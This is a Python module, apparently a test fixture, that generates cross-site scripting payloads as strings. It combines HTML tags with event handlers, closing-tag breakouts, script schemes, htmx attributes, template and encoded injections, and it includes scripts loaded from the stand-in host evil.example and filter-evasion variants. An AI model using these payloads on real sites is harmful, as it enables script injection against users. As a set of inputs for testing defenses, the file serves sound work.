"""Which texts try to become a script? Built from parts, so that every event meets every tag.

`MARK` stands in each of them: a page that holds it shows hostile text.
"""

from itertools import islice, product

MARK = "a11"
CALL = f"alert('{MARK}')"
_TAGS = (
    "<img src=x {event}={call}>",
    '<svg {event}="{call}">',
    "<body {event}={call}>",
    "<details open {event}={call}>",
    "<input autofocus {event}={call}>",
    "<video {event}={call}><source src=x>",
    '"><a href=x {event}={call}>',
    "'/><b {event}={call}//",
    "<iframe {event}={call}>",
    "<x-y tabindex=1 {event}={call}>",
)
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onpointerenter",
           "OnErRoR", "onerror\t", "oncontentvisibilityautostatechange")  # fmt: skip
_BREAK_OUT = ("", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "</noscript>", "`>")
_SCRIPTS = (
    f"<script>{CALL}</script>",
    f"<ScRiPt >{CALL}</sCrIpT>",
    f"<script src=//evil.example/{MARK}.js></script>",
    f"<svg><script>{CALL}</script></svg>",
    f"<math><mtext></p><script>{CALL}</script>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    f"<object data='data:text/html,<script>{CALL}</script>'></object>",
    f"<base href=//evil.example/{MARK}/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"<form action=javascript:{CALL}><button>{MARK}</button></form>",
)
_SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", " javascript:", "vbscript:", "data:text/html,", "//evil/")
_HTMX = ("hx-get", "hx-post", "hx-on:load", "data-hx-get", "hx-vals", "hx-trigger=load hx-get")
_TEMPLATES = (
    "{{{{ '{call}' }}}}",
    "{{% load {call} %}}",
    "${{{call}}}",
    "#{{{call}}}",
    "[[{call}]]",
    "<%= {call} %>",
    "{{!{call}}}",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "%3Cscript%3E{call}%3C/script%3E",
    "＜script＞{call}＜/script＞",
    "\u202e<script>{call}</script>",
    "<scr\u200bipt>{call}</script>",
    "javascript&colon;{call}",
)


def _all():
    for tag, event in product(_TAGS, _EVENTS):
        yield tag.format(event=event, call=CALL)
    for before, script in product(_BREAK_OUT, _SCRIPTS):
        yield before + script
    for scheme in _SCHEMES:
        yield f"<a href='{scheme}{CALL}'>{MARK}</a>"
        yield f"[{MARK}]({scheme}{CALL})"
    for name in _HTMX:
        yield f"<div {name}='/people/?{MARK}'>{MARK}</div>"
        yield f'{MARK}" {name}="/people/'
    for text in _TEMPLATES:
        yield text.format(call=CALL)


PAYLOADS = tuple(dict.fromkeys(_all()))
FILE_NAMES = tuple(f"{text.replace('/', '_')[:80]}.csv" for text in islice(PAYLOADS, 0, None, 10))
